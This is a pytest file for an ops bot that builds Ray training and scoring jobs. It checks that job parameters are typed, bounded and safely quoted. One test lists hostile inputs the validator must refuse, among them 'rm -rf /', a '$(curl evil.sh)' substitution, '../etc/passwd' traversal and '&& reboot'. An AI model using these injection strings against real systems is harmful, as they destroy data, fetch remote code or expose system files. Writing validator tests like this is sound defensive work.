"""Job templates: only typed, bounded values reach a command line, and nothing shell-like."""

from __future__ import annotations

import shlex
from pathlib import Path

import pytest

from bot.catalog.load import parse_catalog
from bot.errors import ConfigError
from bot.jobs.entrypoints import argv, command_line, submission_id
from bot.jobs.templates import JobTemplate, TemplateError, resolve

CATALOG = """
jobs:
  train:
    fraud-scorer:
      entrypoint: train
      params:
        dataset: {type: path, default: /data/fraud/latest.parquet, under: [/data/]}
        epochs: {type: int, default: 5, min: 1, max: 50}
        lr: {type: float, default: 0.001, min: 0.00001, max: 0.1}
        optimizer: {type: choice, choices: [adam, sgd], default: adam}
        tag: {type: string, default: nightly}
      resources: {cpus: 1, gpus: 0, memory_gb: 2, max_cpus: 4, max_gpus: 2}
      artifacts: /srv/artifacts
      cost_per_gpu_hour: 2.5
  score:
    fraud-scorer:
      entrypoint: batch_score
      params:
        model: {type: path, default: /srv/artifacts/latest}
        input: {type: path}
"""


@pytest.fixture
def train() -> JobTemplate:
    template = parse_catalog(CATALOG).jobs.get("train", "fraud-scorer")
    assert template is not None
    return template


def test_defaults_fill_in_and_values_are_typed(train: JobTemplate) -> None:
    request = resolve(train, {"epochs": "12", "lr": "0.01", "gpus": "1"})
    assert request.params == {
        "dataset": "/data/fraud/latest.parquet",
        "epochs": 12,
        "lr": 0.01,
        "optimizer": "adam",
        "tag": "nightly",
    }
    assert (request.cpus, request.gpus, request.memory_gb, request.wait) == (1, 1, 2, False)


@pytest.mark.parametrize(
    ("given", "says"),
    [
        ({"dataset": "/data/x.parquet; rm -rf /"}, "not a path"),
        ({"dataset": "/data/$(curl evil.sh)"}, "not a path"),
        ({"dataset": "/data/`id`.csv"}, "not a path"),
        ({"dataset": "/data/../etc/passwd"}, "`..`"),
        ({"dataset": "/etc/passwd"}, "must be under /data/"),
        ({"dataset": "--help"}, "not a path"),
        ({"dataset": "/data/a b.parquet"}, "not a path"),
        ({"tag": "x' && reboot '"}, "is not allowed"),
        ({"tag": "a|b"}, "is not allowed"),
        ({"epochs": "0"}, "below its minimum 1"),
        ({"epochs": "51"}, "above its maximum 50"),
        ({"epochs": "5; ls"}, "must be a whole number"),
        ({"lr": "nan"}, "finite"),
        ({"lr": "1e9"}, "above its maximum"),
        ({"optimizer": "rmsprop"}, "must be one of adam, sgd"),
        ({"gpus": "3"}, "above its maximum 2 for this template"),
        ({"gpus": "0.5"}, "whole number"),
        ({"cpus": "-1"}, "below its minimum"),
        ({"wait": "maybe"}, "true or false"),
        ({"entrypoint": "python -c 'import os'"}, "has no param"),
        ({"out": "/tmp/x"}, "has no param"),
    ],
)
def test_bad_values_are_refused_with_the_reason(
    train: JobTemplate, given: dict[str, str], says: str
) -> None:
    with pytest.raises(TemplateError) as caught:
        resolve(train, given)
    assert says in str(caught.value)


def test_a_param_without_default_must_be_given() -> None:
    score = parse_catalog(CATALOG).jobs.get("score", "fraud-scorer")
    assert score is not None
    with pytest.raises(TemplateError, match=r"needs input="):
        resolve(score, {})


def test_command_line_quotes_every_argument_and_sets_resources(train: JobTemplate) -> None:
    request = resolve(train, {"epochs": "3", "gpus": "2"})
    sub_id = submission_id(train, "submit_ray_job:abc")
    line = command_line(train, request, sub_id)
    assert shlex.split(line) == argv(train, request, sub_id)
    words = argv(train, request, sub_id)
    assert words[:3] == ["python", "-m", "ray_jobs.train"]
    assert words[words.index("--epochs") + 1] == "3"
    assert words[words.index("--out") + 1] == f"/srv/artifacts/{sub_id}"
    assert words[words.index("--workers") + 1] == "2"
    assert words[words.index("--use-gpu") + 1] == "true"


def test_submission_id_is_deterministic_per_request_key(train: JobTemplate) -> None:
    first = submission_id(train, "submit_ray_job:k1")
    assert first == submission_id(train, "submit_ray_job:k1")
    assert first != submission_id(train, "submit_ray_job:k2")
    assert first.startswith("opsbot-train-fraud-scorer-")


@pytest.mark.parametrize(
    ("yaml_text", "says"),
    [
        ("jobs:\n  train:\n    x:\n      entrypoint: rm\n", "entrypoint"),
        (
            "jobs:\n  train:\n    x:\n      entrypoint: train\n      params:\n"
            "        gpus: {type: int}\n",
            "reserved",
        ),
        (
            "jobs:\n  train:\n    x:\n      entrypoint: train\n      params:\n"
            "        n: {type: int, default: 99, max: 10}\n",
            "default of n",
        ),
        ("jobs:\n  train:\n    x:\n      entrypoint: train\n      artifacts: /a b\n", "artifacts"),
        ("jobs:\n  deploy:\n    x:\n      entrypoint: train\n", "deploy"),
    ],
)
def test_bad_templates_fail_at_load_with_the_line(yaml_text: str, says: str) -> None:
    with pytest.raises(ConfigError) as caught:
        parse_catalog(yaml_text, "services.yaml")
    assert says in str(caught.value)
    assert "services.yaml:" in str(caught.value)


def test_the_job_code_is_shipped_with_the_job_unless_the_template_says_not(
    train: JobTemplate,
) -> None:
    import ray_jobs
    from bot.jobs.entrypoints import runtime_env

    package = str(Path(ray_jobs.__file__).parent)
    assert runtime_env(train)["py_modules"] == [package]
    assert "py_modules" not in runtime_env(train.model_copy(update={"ship_code": False}))
